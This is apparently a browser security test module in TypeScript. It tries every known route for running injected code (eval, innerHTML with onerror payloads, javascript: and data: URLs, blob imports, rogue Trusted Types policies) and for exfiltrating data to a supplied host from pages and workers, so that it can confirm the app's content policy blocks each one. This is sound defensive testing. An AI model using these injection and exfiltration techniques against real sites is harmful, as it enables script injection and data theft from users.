/** What a hostile script would try; each of these functions runs in the page, or in a worker of the app. */

/** Tries every way to run text as a script; answers how many there are, and the names of those that worked. */
export async function runMore(): Promise<{ readonly tried: number; readonly ran: readonly string[] }> {
  const ran: string[] = [];
  Object.assign(globalThis, { ran: (way: string) => ran.push(way) });
  // oxlint-disable-next-line unicorn/consistent-function-scoping -- what runs in the page brings along all that it calls
  const code = (way: string): string => `globalThis.ran('${way}')`;
  const holder = document.createElement('div');
  document.body.append(holder);
  const ways: { readonly [way: string]: () => unknown } = {
    // oxlint-disable-next-line eslint/no-eval -- it is tried, and must fail
    eval: () => globalThis.eval(code('eval')),
    Function: () => Reflect.construct(Function, [code('Function')])(),
    setTimeout: () => Reflect.apply(setTimeout, globalThis, [code('setTimeout')]),
    setInterval: () => Reflect.apply(setInterval, globalThis, [code('setInterval'), 1e6]),
    innerHTML: () => Reflect.set(holder, 'innerHTML', `<img src=x onerror="${code('innerHTML')}">`),
    outerHTML: () => Reflect.set(holder, 'outerHTML', `<img src=x onerror="${code('outerHTML')}">`),
    insertAdjacentHTML: () => holder.insertAdjacentHTML('beforeend', `<img src=x onerror="${code('adjacent')}">`),
    'document.write': () => document.write(`<img src=x onerror="${code('document.write')}">`),
    createContextualFragment: () =>
      holder.append(document.createRange().createContextualFragment(`<img src=x onerror="${code('fragment')}">`)),
    DOMParser: () =>
      holder.append(
        document.importNode(
          new DOMParser().parseFromString(`<img src=x onerror="${code('DOMParser')}">`, 'text/html').body,
          true,
        ),
      ),
    setHTMLUnsafe: () => Reflect.get(holder, 'setHTMLUnsafe').call(holder, `<img src=x onerror="${code('unsafe')}">`),
    'inline script': () => {
      const script = document.createElement('script');
      Reflect.set(script, 'textContent', code('inline script'));
      holder.append(script);
    },
    'inline script as a node': () => {
      const script = document.createElement('script');
      script.append(code('inline script as a node'));
      holder.append(script);
    },
    'script of data': () => {
      const script = document.createElement('script');
      Reflect.set(script, 'src', `data:text/javascript,${code('script of data')}`);
      holder.append(script);
    },
    'script of a blob': () => {
      const script = document.createElement('script');
      Reflect.set(script, 'src', URL.createObjectURL(new Blob([code('script of a blob')])));
      holder.append(script);
    },
    attribute: () => {
      const picture = document.createElement('img');
      picture.setAttribute('onerror', code('attribute'));
      picture.src = 'data:,';
      holder.append(picture);
    },
    'import of data': () => import(/* @vite-ignore */ `data:text/javascript,${code('import of data')}`),
    'import of a blob': () =>
      import(/* @vite-ignore */ URL.createObjectURL(new Blob([code('import of a blob')], { type: 'text/javascript' }))),
    'javascript link': () => {
      const link = document.createElement('a');
      link.href = `javascript:${code('javascript link')}`;
      holder.append(link);
      link.click();
    },
    'frame of javascript': () => {
      const frame = document.createElement('iframe');
      frame.src = `javascript:parent.ran('frame of javascript')`;
      holder.append(frame);
    },
    srcdoc: () => {
      const frame = document.createElement('iframe');
      Reflect.set(frame, 'srcdoc', `<script>parent.ran('srcdoc')</script>`);
      holder.append(frame);
    },
    'worker of a blob': () => {
      const worker = Reflect.construct(Worker, [URL.createObjectURL(new Blob(['postMessage(1)']))]);
      worker.addEventListener('message', () => ran.push('worker of a blob'));
    },
    'worker of data': () => {
      const worker = Reflect.construct(Worker, ['data:text/javascript,postMessage(1)']);
      worker.addEventListener('message', () => ran.push('worker of data'));
    },
    'a policy of its own': () => {
      Reflect.get(globalThis, 'trustedTypes').createPolicy('evil', {});
      ran.push('a policy of its own');
    },
    'a default policy': () => {
      Reflect.get(globalThis, 'trustedTypes').createPolicy('default', {});
      ran.push('a default policy');
    },
    'the policy once more': () => {
      Reflect.get(globalThis, 'trustedTypes').createPolicy('livstegn', {});
      ran.push('the policy once more');
    },
  };
  // what runs right under the hand of the debugger may use eval
  await new Promise((begun) => setTimeout(begun, 0));
  for (const attempt of Object.values(ways)) {
    try {
      await Promise.race([attempt(), new Promise((late) => setTimeout(late, 200))]);
    } catch {
      // stopped, and said so
    }
  }
  await new Promise((late) => setTimeout(late, 500));
  holder.remove();
  return { tried: Object.keys(ways).length, ran };
}

/** Tries every way to reach `<way>.<host>`; answers their names. */
export async function sendFromPage(host: string): Promise<readonly string[]> {
  const to = (way: string, scheme = 'http'): string => `${scheme}://${way}.${host}/?everything`;
  // oxlint-disable-next-line unicorn/consistent-function-scoping -- what runs in the page brings along all that it calls
  const element = (name: string, attributes: { readonly [name: string]: string }): void => {
    const made = document.createElement(name);
    for (const [attribute, value] of Object.entries(attributes)) made.setAttribute(attribute, value);
    document.body.append(made);
  };
  const ways: { readonly [way: string]: () => unknown } = {
    fetch: () => fetch(to('fetch')),
    'fetch-no-cors': () => fetch(to('fetch-no-cors'), { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }),
    'fetch-later': () => Reflect.get(globalThis, 'fetchLater')(to('fetch-later'), { activateAfter: 0 }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('POST', to('xhr'));
      request.send('x');
    },
    beacon: () => navigator.sendBeacon(to('beacon'), 'x'),
    websocket: () => new WebSocket(to('websocket', 'ws')),
    eventsource: () => new EventSource(to('eventsource')),
    webtransport: () => new WebTransport(to('webtransport', 'https')),
    image: () => Object.assign(new Image(), { src: to('image') }),
    srcset: () => Object.assign(new Image(), { srcset: `${to('srcset')} 2x` }),
    picture: () => element('img', { src: to('picture') }),
    audio: () => element('audio', { src: to('audio'), autoplay: '' }),
    video: () => element('video', { src: to('video'), poster: to('video'), autoplay: '' }),
    track: () => element('track', { src: to('track'), default: '' }),
    stylesheet: () => element('link', { rel: 'stylesheet', href: to('stylesheet') }),
    icon: () => element('link', { rel: 'icon', href: to('icon') }),
    manifest: () => element('link', { rel: 'manifest', href: to('manifest') }),
    preload: () => element('link', { rel: 'preload', as: 'image', href: to('preload') }),
    modulepreload: () => element('link', { rel: 'modulepreload', href: to('modulepreload') }),
    prefetch: () => element('link', { rel: 'prefetch', href: to('prefetch') }),
    prerender: () => element('link', { rel: 'prerender', href: to('prerender') }),
    frame: () => element('iframe', { src: to('frame') }),
    object: () => element('object', { data: to('object') }),
    embed: () => element('embed', { src: to('embed') }),
    script: () => element('script', { src: to('script') }),
    import: () => import(/* @vite-ignore */ to('import')),
    worker: () => Reflect.construct(Worker, [to('worker')]),
    'service-worker': () => navigator.serviceWorker.register(to('service-worker')),
    audioworklet: () => new AudioContext().audioWorklet.addModule(to('audioworklet')),
    font: () => new FontFace('evil', `url(${to('font')})`).load(),
    background: () => document.body.style.setProperty('background-image', `url(${to('background')})`),
    'svg-use': () => {
      const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      drawing.setAttribute('href', to('svg-use'));
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      svg.append(drawing);
      document.body.append(svg);
    },
    form: () => {
      const form = document.createElement('form');
      form.action = to('form');
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
    'form-in-frame': () => {
      const frame = document.createElement('iframe');
      frame.name = 'hidden';
      document.body.append(frame);
      const form = document.createElement('form');
      form.action = to('form-in-frame');
      form.target = 'hidden';
      document.body.append(form);
      form.submit();
    },
    'frame-of-blank': () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      void frame.contentWindow?.fetch(to('frame-of-blank')).catch(() => undefined);
    },
    base: () => {
      element('base', { href: to('base') });
      void fetch('./index.html').catch(() => undefined);
    },
    cache: async () => (await caches.open('evil')).add(to('cache')),
    notification: () => new Notification('x', { icon: to('notification') }),
  };
  await new Promise((begun) => setTimeout(begun, 0));
  for (const attempt of Object.values(ways)) {
    try {
      await Promise.race([attempt(), new Promise((late) => setTimeout(late, 300))]);
    } catch {
      // stopped, and said so
    }
  }
  await new Promise((late) => setTimeout(late, 1500));
  return Object.keys(ways);
}

/** The same from within a worker or the service worker. */
export async function sendFromWorker(host: string): Promise<readonly string[]> {
  const to = (way: string, scheme = 'http'): string => `${scheme}://worker-${way}.${host}/?everything`;
  // oxlint-disable-next-line unicorn/consistent-function-scoping -- what runs in the page brings along all that it calls
  const made = (name: string, ...given: readonly unknown[]): unknown =>
    Reflect.construct(Reflect.get(globalThis, name), [...given]);
  const nested = (way: string): string =>
    URL.createObjectURL(new Blob([`fetch('${to(way)}', { mode: 'no-cors' })`], { type: 'text/javascript' }));
  const ways: { readonly [way: string]: () => unknown } = {
    fetch: () => fetch(to('fetch'), { mode: 'no-cors' }),
    'fetch-request': () => fetch(new Request(to('fetch-request'), { mode: 'no-cors' })),
    xhr: () => {
      const request = made('XMLHttpRequest');
      if (!(request instanceof Object)) return;
      Reflect.get(request, 'open').call(request, 'GET', to('xhr'));
      Reflect.get(request, 'send').call(request);
    },
    websocket: () => made('WebSocket', to('websocket', 'ws')),
    'websocket-stream': () => made('WebSocketStream', to('websocket-stream', 'ws')),
    eventsource: () => made('EventSource', to('eventsource')),
    webtransport: () => made('WebTransport', to('webtransport', 'https')),
    'import-scripts': () => Reflect.get(globalThis, 'importScripts')(to('import-scripts')),
    nested: () => made('Worker', nested('nested')),
    'nested-data': () => made('Worker', `data:text/javascript,fetch('${to('nested-data')}',{mode:'no-cors'})`),
    font: async () => {
      const face = made('FontFace', 'evil', `url(${to('font')})`) as { load: () => Promise<unknown> };
      await face.load();
    },
    'cache-add': async () => (await caches.open('evil')).add(new Request(to('cache-add'), { mode: 'no-cors' })),
    'cache-add-all': async () => (await caches.open('evil')).addAll([to('cache-add-all')]),
  };
  for (const attempt of Object.values(ways)) {
    try {
      await Promise.race([attempt(), new Promise((late) => setTimeout(late, 300))]);
    } catch {
      // stopped, and said so
    }
  }
  await new Promise((late) => setTimeout(late, 1000));
  return Object.keys(ways).map((way) => `worker-${way}`);
}

/** Leads elsewhere, which no policy in a page can stop. */
export const LEADING_ELSEWHERE = {
  open: (host: string): void => void window.open(`http://open.${host}/?everything`),
  link: (host: string): void => {
    const link = document.createElement('a');
    link.href = `http://link.${host}/?everything`;
    link.target = '_blank';
    document.body.append(link);
    link.click();
  },
  location: (host: string): void => location.assign(`http://location.${host}/?everything`),
} as const;
